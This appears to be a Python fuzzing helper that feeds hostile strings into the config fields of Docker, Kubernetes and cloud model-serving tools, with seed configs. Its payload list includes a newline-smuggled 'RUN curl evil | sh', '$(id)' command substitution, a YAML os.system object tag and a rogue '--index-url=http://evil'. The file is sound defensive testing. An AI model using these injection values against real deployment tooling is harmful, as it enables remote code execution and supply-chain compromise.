"""Hostile strings, and every string field of every target config to put them in.

Fields are found from the config classes themselves, so a new string field is fuzzed without
editing this file. Each target starts from a seed that writes every optional part (ingress,
secrets, volumes, tolerations), so an accepted value has somewhere to land.
"""

from __future__ import annotations

import typing
from dataclasses import dataclass

from hypothesis import strategies as st
from pydantic import BaseModel

from ai_models.serving import CloudConfig, CloudProvider, DockerConfig, KubernetesConfig

HOSTILE = [
    "\n",
    "\nRUN curl evil | sh",
    "\r",
    "\r\n",
    "\x00",
    "\x1b[31m",
    "\x7f",
    "\x85",
    "\u2028",
    "\u2029",
    "\ud800",
    "\udfff",
    "\u202e",
    "\ufffe",
    "\t",
    " ",
    "",
    "$(id)",
    "`id`",
    "$HOME",
    "${HOME}",
    "$$",
    "$",
    "'",
    '"',
    "\\",
    '\\"',
    "[subscription().id]",
    "[[x]",
    "[x",
    "[]",
    "{{resolve:secretsmanager:prod/db}}",
    "{{resolve:ssm:/path}}",
    "${AWS::Region}",
    "${!x}",
    "{0}",
    "# c",
    ": x",
    "- x",
    "&a *a",
    "!!python/object/apply:os.system ['id']",
    "%",
    "%eth0",
    "/",
    "..",
    "-e",
    "--index-url=http://evil",
    "ünïcödé",
    "✓",
    "😀",
    "x" * 5000,
]
# Prefixes that satisfy some field's grammar, so a hostile tail meets the grammar's end.
BASES = ["", "a", "0.0.0.0", "fe80::1", "fe80::1%", "/models/x", "python:3.11-slim", "ab-cd"]


def hostile_text() -> st.SearchStrategy[str]:
    """A hostile string: a known attack, one glued to a valid-looking prefix, or any text."""
    known = st.sampled_from(HOSTILE)
    return st.one_of(
        known,
        st.builds(lambda base, tail: base + tail, st.sampled_from(BASES), known),
        st.builds(lambda head, base: head + base, known, st.sampled_from(BASES)),
        st.text(max_size=12),
    )


@dataclass(frozen=True)
class Slot:
    """Where a hostile string goes: a field, or a key/value of a mapping, or a nested field."""

    field: str
    part: str = "value"  # "value", "key"/"mapped" (mapping key/value), "item", "nested"
    inner: str | None = None  # the nested config's field, for part "nested"

    def place(self, fields: dict, text: str) -> dict:
        """Return a copy of fields with text put into this slot."""
        fields = {**fields}
        current = fields.get(self.field)
        if self.part == "key":
            fields[self.field] = {text: next(iter(current.values()))}
        elif self.part == "mapped":
            fields[self.field] = {next(iter(current)): text}
        elif self.part == "item":
            fields[self.field] = [text]
        elif self.part == "nested":
            fields[self.field] = [{**current[0], self.inner: text}]
        else:
            fields[self.field] = text
        return fields


def _mentions_str(annotation: object) -> bool:
    return annotation is str or any(_mentions_str(a) for a in typing.get_args(annotation))


def _nested_model(annotation: object) -> type[BaseModel] | None:
    for arg in typing.get_args(annotation):
        if isinstance(arg, type) and issubclass(arg, BaseModel):
            return arg
        found = _nested_model(arg)
        if found:
            return found
    return None


def slots(config_class: type[BaseModel], seed: dict) -> list[Slot]:
    """Every place a string can go in config_class (fields the seed fills in for nesting)."""
    result = []
    for name, info in config_class.model_fields.items():
        annotation = info.annotation
        nested = _nested_model(annotation)
        if nested is not None:
            result += [
                Slot(name, "nested", inner)
                for inner, inner_info in nested.model_fields.items()
                if _mentions_str(inner_info.annotation)
            ]
        elif typing.get_origin(annotation) is dict or any(
            typing.get_origin(a) is dict for a in typing.get_args(annotation)
        ):
            result += [Slot(name, "key"), Slot(name, "mapped")]
        elif typing.get_origin(annotation) is list:
            result.append(Slot(name, "item"))
        elif _mentions_str(annotation) or name == "provider":
            result.append(Slot(name))
    missing = [s.field for s in result if s.part in ("key", "mapped") and not seed.get(s.field)]
    assert not missing, f"the seed must fill {missing} so their keys can be fuzzed"
    return result


DOCKER_SEED = {
    "model_path": "/models/my-model",
    "base_image": "python:3.11-slim",
    "env_vars": {"FUZZ": "x"},
    "volumes": [{"type": "bind", "source": "./models", "target": "/data"}],
    "additional_packages": ["numpy==1.26.4"],
}
KUBERNETES_SEED = {
    "name": "fuzz",
    "image": "registry.example.com/ml/server:1.2",
    "model_path": "/models/my-model",
    "env_vars": {"FUZZ": "x"},
    "volumes": [{"type": "persistentVolumeClaim", "source": "models-pvc", "target": "/data"}],
    "tolerations": [{"key": "gpu", "operator": "Equal", "value": "yes", "effect": "NoSchedule"}],
    "node_selector": {"pool": "gpu"},
    "annotations": {"example.com/note": "x"},
    "enable_ingress": True,
    "ingress_host": "models.example.com",
    "ingress_tls_secret": "models-tls",
    "ingress_class_name": "nginx",
    "secret_name": "fuzz-secrets",
}


def cloud_seed(provider: CloudProvider) -> dict:
    """A cloud seed with a secret, so secret references are written too."""
    seed = {
        "provider": provider,
        "name": "fuzz-app",
        "region": {"aws": "us-west-2", "gcp": "us-central1", "azure": "eastus"}[provider.value],
        "model_path": "/models/my-model",
        "cpu_count": 2,
        "memory_gb": 4,
        "env_vars": {"FUZZ": "x"},
        "secrets": {"API_TOKEN": "fuzz-token"},
    }
    if provider is CloudProvider.AWS:
        seed["instance_type"] = "ml.m5.large"
    return seed


VLLM_CHANGES = {
    "server_type": "vllm",
    "gpu_count": 1,
    "model_id": "org/model",
    "max_model_len": 4096,
}
VLLM_DOCKER_SEED = {
    **{k: v for k, v in DOCKER_SEED.items() if k not in ("base_image", "additional_packages")},
    **VLLM_CHANGES,
    "vllm_image": "registry.example.com/mirror/vllm-openai:v0.32.0",
}
VLLM_KUBERNETES_SEED = {
    **{k: v for k, v in KUBERNETES_SEED.items() if k != "image"},
    **VLLM_CHANGES,
    "enable_hpa": True,
}


def vllm_cloud_seed(provider: CloudProvider) -> dict:
    """A GPU cloud seed running vLLM."""
    seed = {**cloud_seed(provider), **VLLM_CHANGES, "cpu_count": 8, "memory_gb": 32}
    if provider is CloudProvider.AWS:
        seed["instance_type"] = "ml.g5.2xlarge"
    return seed


TARGETS = {
    "docker": (DockerConfig, DOCKER_SEED),
    "kubernetes": (KubernetesConfig, KUBERNETES_SEED),
    **{p.value: (CloudConfig, cloud_seed(p)) for p in CloudProvider},
    # The same fuzzing with server_type="vllm" (the part before "-" names the target).
    "docker-vllm": (DockerConfig, VLLM_DOCKER_SEED),
    "kubernetes-vllm": (KubernetesConfig, VLLM_KUBERNETES_SEED),
    **{f"{p.value}-vllm": (CloudConfig, vllm_cloud_seed(p)) for p in CloudProvider},
}
